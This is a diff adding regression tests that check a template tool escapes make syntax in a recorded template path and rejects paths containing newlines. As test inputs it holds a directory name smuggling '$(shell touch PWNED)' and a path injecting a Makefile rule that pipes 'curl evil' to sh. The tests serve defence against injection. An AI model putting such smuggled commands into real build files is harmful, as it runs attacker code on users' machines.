@@ -332,3 +332,28 @@ def test_type_shifting_app_names_keep_their_meaning(template_repo, tmp_path_fact
         files = parse_all(copy_template(template_repo, fresh_dst(tmp_path_factory), {**base_data, "app_name": app}))
         for rel in base_files:
             same_meaning(base_files[rel], files[rel], [(BASE["app_name"], app)], f"{app}: {rel}")
+
+
+def test_a_template_path_with_make_syntax_is_recorded_as_text_and_runs_nothing(tmp_path):
+    """`TEMPLATE := <_src_path>` is expanded by make when it reads the Makefile, on
+    any target: a template cloned into a directory named `$(shell ...)` ran that
+    command on every `make` in the deploy repo."""
+    from ops import template_source
+    from tests.conftest import copy_template, snapshot_template
+
+    src = snapshot_template(tmp_path / "tpl$(shell touch PWNED)#x")
+    repo = copy_template(src, tmp_path / "deploy", {"platform": "fly", "privacy": "private"})
+    show = tmp_path / "show.mk"  # read after the Makefile: prints the value make holds
+    show.write_text("$(info TEMPLATE=$(TEMPLATE))\n")
+    make = subprocess.run(["make", "-f", "Makefile", "-f", str(show), "-q", "nothing-here"], cwd=repo,
+                          capture_output=True, text=True, timeout=60)
+    assert not (repo / "PWNED").exists() and not any(tmp_path.rglob("PWNED"))
+    assert f"TEMPLATE={src}\n" in make.stdout, make.stdout  # the value make holds is the path, as text
+    assert template_source.recorded(repo) == str(src) and template_source.problem(repo) == ""
+
+
+def test_a_template_path_with_a_newline_is_refused():
+    from ops import template_source
+
+    with pytest.raises(ValueError, match="control characters"):
+        template_source.make_literal("/tmp/tpl\nall:\n\tcurl evil | sh")
